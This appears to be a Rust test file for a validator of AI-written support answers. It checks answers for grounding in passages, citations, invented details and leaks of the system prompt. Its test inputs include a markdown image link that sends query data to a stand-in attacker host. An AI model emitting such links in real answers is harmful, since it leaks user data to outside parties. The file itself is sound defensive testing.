//! Which answers are used, and why others are not.

use model::SenderType;

use super::*;
use crate::Turn;
use model::theo::Tone;

use crate::prompt::{self, Ask};

const NONCE: &str = "9a3bd7e1c0";

fn passages() -> Vec<Passage> {
    let passage = |heading: &str, text: &str| Passage { headings: vec![heading.into()], text: text.into() };
    vec![
        passage(
            "Returns",
            "You can return unworn shoes within 30 days of delivery. The refund goes to your card in 5 days.",
        ),
        passage("Shipping", "Shipping to Germany costs €4.90 with DHL. Track parcels at https://tern.example/track."),
        passage(
            "Contact",
            "Call us on +49 30 1234567 or write to help@tern.example, Monday to Friday from 9:00 to 17:00.",
        ),
    ]
}

fn prompt() -> Prompt {
    let turns = [Turn { sender: SenderType::Customer, text: "Can I return my shoes?".into() }];
    let passages = passages();
    let ask = Ask {
        business: "The Tern Shop For All Outdoor Things",
        turns: &turns,
        passages: &passages.iter().collect::<Vec<_>>(),
        tone: Tone::Friendly,
        language: None,
    };
    prompt::answer(&ask, NONCE)
}

fn judged(said: &str) -> Result<Written, NotWritten> {
    let passages = passages();
    answer(said, &passages.iter().collect::<Vec<_>>(), &prompt())
}

fn refused(said: &str) -> NotWritten {
    judged(said).expect_err(said)
}

#[test]
fn an_answer_that_the_passages_hold_is_used_without_its_numbers() {
    let written =
        judged("You can return unworn shoes within **30 days** of delivery [1]. The refund goes to your card. [1]");
    let written = written.expect("an answer");
    let text = "You can return unworn shoes within 30 days of delivery. The refund goes to your card.";
    assert_eq!((written.text.as_str(), written.cited), (text, vec![0]));
    assert!(written.support.expect("one language") > 0.9);
}

#[test]
fn sources_are_told_in_the_order_of_their_mention() {
    let written =
        judged("Shipping to Germany costs €4.90 [2]. Return unworn shoes within 30 days [1][2]. Call us [3].");
    assert_eq!(written.expect("an answer").cited, [1, 0, 2]);
}

#[test]
fn courtesies_are_left_out() {
    let written =
        judged("Thanks for reaching out today! Return unworn shoes within 30 days [1]. Enjoy hiking, dear friend!");
    assert_eq!(written.expect("an answer").text, "Return unworn shoes within 30 days.");
    let written = judged("Yes. Unworn shoes can be returned within 30 days [1].").expect("an answer");
    assert_eq!(written.text, "Yes. Unworn shoes can be returned within 30 days.");
}

#[test]
fn lists_are_used_as_they_are() {
    let said =
        "Shipping to Germany:\n1. Costs €4.90 [2]\n2. Track parcels at [this page](https://tern.example/track) [2]";
    let text = "Shipping to Germany:\n1. Costs €4.90\n2. Track parcels at this page (https://tern.example/track)";
    assert_eq!(judged(said).expect("an answer").text, text);
}

#[test]
fn an_answer_in_another_language_is_held_to_its_numbers_and_sources() {
    let written =
        judged("Sie können ungetragene Schuhe innerhalb von 30 Tagen zurückgeben [1]. Das Geld kommt in 5 Tagen [1].");
    let written = written.expect("an answer");
    assert_eq!((written.cited, written.support), (vec![0], None));
    assert_eq!(refused("Sie können die Schuhe innerhalb von 60 Tagen zurückgeben [1]."), NotWritten::Invented);
    let added = "Schuhe innerhalb von 30 Tagen [1].\nSie werden nach Mekka geflogen.\nDas Geld kommt in 5 Tagen [1].";
    assert_eq!(refused(added), NotWritten::Unsupported);
    assert_eq!(judged("未穿的鞋可在30天内退货 [1]。").expect("an answer").support, None);
}

#[test]
fn what_models_say_instead_of_an_answer_is_known() {
    assert_eq!(refused("NO_ANSWER"), NotWritten::NoAnswer);
    assert_eq!(refused("**NO_ANSWER.**"), NotWritten::NoAnswer);
    assert_eq!(refused("Sorry, that is not there [1].\nNO_ANSWER"), NotWritten::NoAnswer);
    assert_eq!(refused("HUMAN"), NotWritten::Human);
    assert_eq!(refused("I'm sorry, but I can't help with that [1]."), NotWritten::Refusal);
    assert_eq!(refused(" \n\u{200b}"), NotWritten::Empty);
    assert_eq!(refused(&"You can return shoes [1]. ".repeat(100)), NotWritten::TooLong);
}

#[test]
fn sources_must_be_named_and_exist() {
    assert_eq!(refused("You can return unworn shoes within 30 days."), NotWritten::Uncited);
    assert_eq!(refused("You can return unworn shoes within 30 days [4]."), NotWritten::NoSuchPassage);
    assert_eq!(refused("You can return unworn shoes within 30 days [0]."), NotWritten::NoSuchPassage);
    assert_eq!(refused("Shipping to Germany costs €4.90 [1]."), NotWritten::Invented);
}

#[test]
fn nothing_is_added_to_what_the_passages_say() {
    for (said, why) in [
        ("You can return unworn shoes within 60 days [1].", NotWritten::Invented),
        ("Return unworn shoes within 30 days [1]. As a bonus there is a voucher of €50.", NotWritten::Invented),
        ("Track parcels at https://evil.example/track [2].", NotWritten::Invented),
        ("Track parcels ![p](https://evil.example/?q=shoes) [2].", NotWritten::Invented),
        ("Call us on +49 30 7654321 [3].", NotWritten::Invented),
        ("Write to boss@tern.example [3].", NotWritten::Invented),
        ("Our founder lives upstairs and loves cheese [1].", NotWritten::Unsupported),
        (
            "Return unworn shoes [1]. Socks fly through magic portals. The refund goes to your card [1].",
            NotWritten::Unsupported,
        ),
    ] {
        let cut = said.replace("magic portals. The", "magic portals.\nThe");
        assert_eq!(refused(&cut), why, "{said}");
    }
    assert!(judged("Call us on +49 (30) 123 4567 [3]. Write to Help@Tern.example [3].").is_ok());
}

#[test]
fn nothing_of_the_prompt_comes_out() {
    let prompt = prompt();
    assert_eq!(refused(&format!("{} [1]", prompt.system)), NotWritten::Leak);
    let rule = "My rules: answer the customer's last question from the passages alone [1].";
    assert_eq!(refused(rule), NotWritten::Leak);
    assert_eq!(refused("Shoes 9a3b-d7e1-c0 within 30 days [1]."), NotWritten::Leak);
    let named = "The Tern Shop For All Outdoor Things: you can return unworn shoes within 30 days of delivery [1].";
    assert!(matches!(judged(named), Ok(_) | Err(NotWritten::Unsupported)), "its name is no secret");
}

#[test]
fn summaries_and_articles_hold_no_number_and_no_link_of_their_own() {
    let turns = [Turn { sender: SenderType::Customer, text: "Order 4711 is late since 3 May.".into() }];
    let prompt = crate::prompt::summary(&turns, NONCE);
    assert_eq!(summary("Order 4711 is late.", &turns, &prompt).as_deref(), Ok("Order 4711 is late."));
    assert_eq!(summary("Order 4712 is late.", &turns, &prompt), Err(NotWritten::Invented));
    assert_eq!(summary(&prompt.system, &turns, &prompt), Err(NotWritten::Leak));

    let (question, given) = ("how long for returns??", "Hi Ann, it's 30 days, see https://tern.example/r");
    let prompt = crate::prompt::article(question, given, NONCE);
    let said = "# How long can I return things?\n\nFor **30 days**, see <https://tern.example/r>.";
    let draft = article(said, question, given, &prompt).expect("an article");
    assert_eq!(draft.title, "How long can I return things?");
    assert_eq!(draft.content, "For **30 days**, see <https://tern.example/r>.");
    assert_eq!(article("Title", question, given, &prompt), Err(NotWritten::Empty));
    assert_eq!(article("Title\n\nSee https://evil.example", question, given, &prompt), Err(NotWritten::Invented));
}

#[test]
fn tags_are_the_teams_own() {
    let known = ["Billing".to_owned(), "returns".to_owned(), "late parcel".to_owned(), "vip".to_owned()];
    assert_eq!(
        tags("- billing\nReturns, late parcel\nbilling\nvip\nnew one", &known),
        ["Billing", "returns", "late parcel"]
    );
    assert!(tags("NONE", &known).is_empty());
}

/// What answers are made of, good ones and broken ones.
const PIECES: [&str; 24] = [
    "You can return shoes within 30 days",
    " ",
    ". ",
    "\n",
    "[1]",
    "[2, 3]",
    "【3】",
    "[",
    "](",
    ")",
    "![",
    "**",
    "- ",
    "1. ",
    "https://tern.example/track",
    "@",
    "返品。",
    "é",
    "\u{301}",
    "\u{202e}",
    "٣",
    "+49 30 1234567",
    "# ",
    "...",
];

proptest::proptest! {
    #[test]
    fn any_answer_is_judged_and_none_is_used_without_its_sources(
        pieces in proptest::collection::vec(proptest::sample::select(&PIECES[..]), 0..30),
        any in ".{0,40}",
    ) {
        for said in [pieces.concat(), any.clone(), format!("{}{any}[1]", pieces.concat())] {
            if let Ok(written) = judged(&said) {
                assert!(!written.cited.is_empty() && written.cited.iter().all(|place| *place < 3), "{said}");
                assert!(!written.text.trim().is_empty() && !written.text.contains("[1]"), "{said}");
            }
        }
    }
}
